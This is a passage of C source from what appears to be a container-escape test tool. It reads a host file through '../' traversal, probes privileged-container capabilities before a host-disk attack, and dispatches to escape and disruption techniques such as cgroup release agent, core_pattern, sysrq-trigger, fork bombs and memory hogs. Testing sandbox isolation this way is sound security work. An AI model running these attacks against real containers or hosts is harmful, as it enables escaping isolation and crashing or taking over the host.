a_cwd_escape (const char *marker, const char *want)
{
  char cwd[512] = "", path[1024], buf[256] = "";
  int fd;
  ssize_t n;
  if (!marker || !want)
    return ERROR ("usage: cwd-escape HOST-MARKER-PATH CONTENT");
  if (!getcwd (cwd, sizeof cwd))
    snprintf (cwd, sizeof cwd, "(getcwd: %s)", errno_name (errno));
  snprintf (path, sizeof path, "../../../../../../../../..%s", marker);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return STOPPED ("open", errno, 0, "cwd %s: the host marker file is not reachable", cwd);
  n = read (fd, buf, sizeof buf - 1);
  close (fd);
  buf[n > 0 ? n : 0] = '\0';
  buf[strcspn (buf, "\n")] = '\0';
  if (strcmp (buf, want) != 0)
    return STOPPED ("", 0, 0, "cwd %s: a file at the marker's path, not the host's", cwd);
  return SUCCEEDED ("the working directory is outside the container (%s): read a host file through ../", cwd);
}

/* what --privileged gave the container, then the host-disk attack */
static int
a_privileged (void)
{
  char devs[64] = "?", sysfs[16] = "?", line[4096];
  FILE *f = fopen ("/sys/fs/cgroup/devices/devices.list", "r");
  int nblk = 0;
  DIR *d;
  struct dirent *e;

  if (f)
    {
      if (fgets (devs, sizeof devs, f))
        devs[strcspn (devs, "\n")] = '\0';
      fclose (f);
    }
  if ((f = fopen ("/proc/self/mountinfo", "r")))
    {
      while (fgets (line, sizeof line, f))
        {
          char mp[256], opts[256];
          if (sscanf (line, "%*s %*s %*s %*s %255s %255s", mp, opts) == 2 && strcmp (mp, "/sys") == 0)
            snprintf (sysfs, sizeof sysfs, "%s", strncmp (opts, "rw", 2) == 0 ? "read-write" : "read-only");
        }
      fclose (f);
    }
  if ((d = opendir ("/dev")))
    {
      while ((e = readdir (d)))
        {
          struct stat st;
          char p[300];
          snprintf (p, sizeof p, "/dev/%s", e->d_name);
          if (lstat (p, &st) == 0 && S_ISBLK (st.st_mode))
            nblk++;
        }
      closedir (d);
    }
  if (!has_cap (C_SYS_ADMIN))
    return result ("stopped", "", 0, "", "the container runs without CAP_SYS_ADMIN (CapEff %016llx)", ctx.capeff);
  printf ("PRIVILEGED CapEff %016llx, seccomp %s, devices cgroup \"%s\", /sys %s, %d host block devices in /dev\n",
          ctx.capeff, ctx.seccomp == 0 ? "off" : "on", devs, sysfs, nblk);
  return a_host_disk ();
}

static int
a_context (void)
{
  return SUCCEEDED ("context only");
}

int
main (int argc, char **argv)
{
  const char *cmd = argc > 1 ? argv[1] : "";
  const char *arg = argc > 2 ? argv[2] : NULL;

  setvbuf (stdout, NULL, _IOLBF, 0);
  read_context ();
  /* a setuid copy is run by a name ending in "-suid" */
  {
    const char *b = strrchr (argv[0], '/');
    b = b ? b + 1 : argv[0];
    size_t l = strlen (b);
    if (l > 5 && strcmp (b + l - 5, "-suid") == 0)
      return a_setuid ();
  }
  if (!strcmp (cmd, "mount-tmpfs"))
    return a_mount_tmpfs ();
  if (!strcmp (cmd, "host-disk"))
    return a_host_disk ();
  if (!strcmp (cmd, "userns-mount"))
    return a_userns_mount ();
  if (!strcmp (cmd, "cgroup-release-agent"))
    return a_cgroup_release_agent ();
  if (!strcmp (cmd, "shocker"))
    return a_shocker ();
  if (!strcmp (cmd, "keyctl"))
    return a_keyctl ();
  if (!strcmp (cmd, "bpf"))
    return a_bpf ();
  if (!strcmp (cmd, "userfaultfd"))
    return a_userfaultfd ();
  if (!strcmp (cmd, "io-uring"))
    return a_io_uring ();
  if (!strcmp (cmd, "ptrace"))
    return a_ptrace (arg);
  if (!strcmp (cmd, "raw-socket"))
    return a_raw_socket ();
  if (!strcmp (cmd, "mknod-block"))
    return a_mknod_block ();
  if (!strcmp (cmd, "write-rootfs"))
    return a_write_rootfs ();
  if (!strcmp (cmd, "proc-sys"))
    return open_for_write ("/proc/sys/kernel/core_pattern", "a core_pattern pipe runs a program as root on the host");
  if (!strcmp (cmd, "sysrq"))
    return open_for_write ("/proc/sysrq-trigger", "one byte reboots or crashes the host");
  if (!strcmp (cmd, "kcore"))
    return a_kcore ();
  if (!strcmp (cmd, "console"))
    return a_console (arg);
  if (!strcmp (cmd, "kmsg"))
    return a_kmsg (arg);
  if (!strcmp (cmd, "setuid"))
    return a_setuid ();
  if (!strcmp (cmd, "fork-bomb"))
    return a_fork_bomb (arg);
  if (!strcmp (cmd, "memory-hog"))
    return a_memory_hog ();
  if (!strcmp (cmd, "cwd-escape"))
    return a_cwd_escape (arg, argc > 3 ? argv[3] : NULL);
  if (!strcmp (cmd, "privileged"))
    return a_privileged ();
  if (!strcmp (cmd, "context"))
    return a_context ();
  fprintf (stderr, "usage: attack mount-tmpfs|host-disk|userns-mount|cgroup-release-agent|shocker|keyctl|bpf|"
                   "userfaultfd|io-uring|ptrace PID|raw-socket|mknod-block|write-rootfs|proc-sys|sysrq|kcore|"
                   "setuid|fork-bomb [HOLD-SECONDS]|memory-hog|cwd-escape MARKER CONTENT|privileged|console [PATH]|kmsg [PATH]|"
                   "context\n");
  return 2;
}
